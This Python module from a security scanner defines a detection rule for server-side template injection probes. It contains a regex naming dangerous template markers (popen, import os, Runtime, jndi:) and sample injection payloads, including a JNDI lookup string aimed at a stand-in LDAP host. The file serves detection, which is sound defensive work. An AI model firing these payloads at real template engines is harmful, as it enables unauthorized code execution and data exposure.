"""Expressions of template engines."""

from __future__ import annotations

import re

from safehold.findings import Rule, Severity
from safehold.inputs.tripwires.row import Tripwire

TEMPLATES = Tripwire(
    rule=Rule(
        id="SH524",
        name="tripwire-template",
        title="A text looks like an expression of a template",
        why="Somebody tries whether an input is a part of a template.",
        remedy="Nothing, if the endpoint does what it is for; see who sends it, and whether the place where the input goes gives it to the template as a value.",
        severity=Severity.LOW,
        cwe=1336,
        cvss="CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:N/VI:L/VA:N/SC:N/SI:N/SA:N",
        score=6.3,
    ),
    hints=("{{", "${", "#{", "<%", "{%", "[[", "@(", "*{", "#set", "<#"),
    pattern=re.compile(
        r"""
        \{\{[^{}]{0,120}?(?:\d\s*+[*+]\s*+['"]?\d|__\w{1,30}?__|\b(?:config|self|request|cycler|lipsum|joiner|namespace|settings|app)\b\s*+(?:[.[|]|\}\})|\(\)|constructor)
        |[$#*@]\{[^{}]{0,120}?(?:\d\s*+[*+]\s*+['"]?\d|\bT\s*+\(|java\.|Runtime|jndi:|process\b|__\w{1,30}?__|class\b|exec\b|getClass|env:|lower:)
        |<%=?[^%]{0,80}(?:\d\s*+\*\s*+\d|system|`|File\.|IO\.|Runtime)|\{%[^%]{0,80}(?:__\w{1,30}?__|import\s++os|popen|debug\b|include\s++['"]?/)|@\(\s*+\d++\s*+[*+]\s*+\d++\s*+\)|\#set\s*+\(\s*+\$\w++\s*+=[^)]{0,80}(?:class|\d\s*+\*)|<\#assign[^>]{0,80}(?:new|Execute)|\{php\}|__\$\{|\{\{=|\[\[\s*+\d++\s*+\*\s*+\d""",
        re.VERBOSE | re.IGNORECASE,
    ),
    harmful=(
        "{{7*7}}",
        "${7*7}",
        "{{ config.items() }}",
        "${jndi:ldap://example.com/a}",
        "<%= 7*7 %>",
        "{{''.__class__}}",
    ),
    harmless=("{name}", "Hello {{ name }}", "${HOME}", "{% if x %}", "100% {sure}", "#{anchor}"),
)
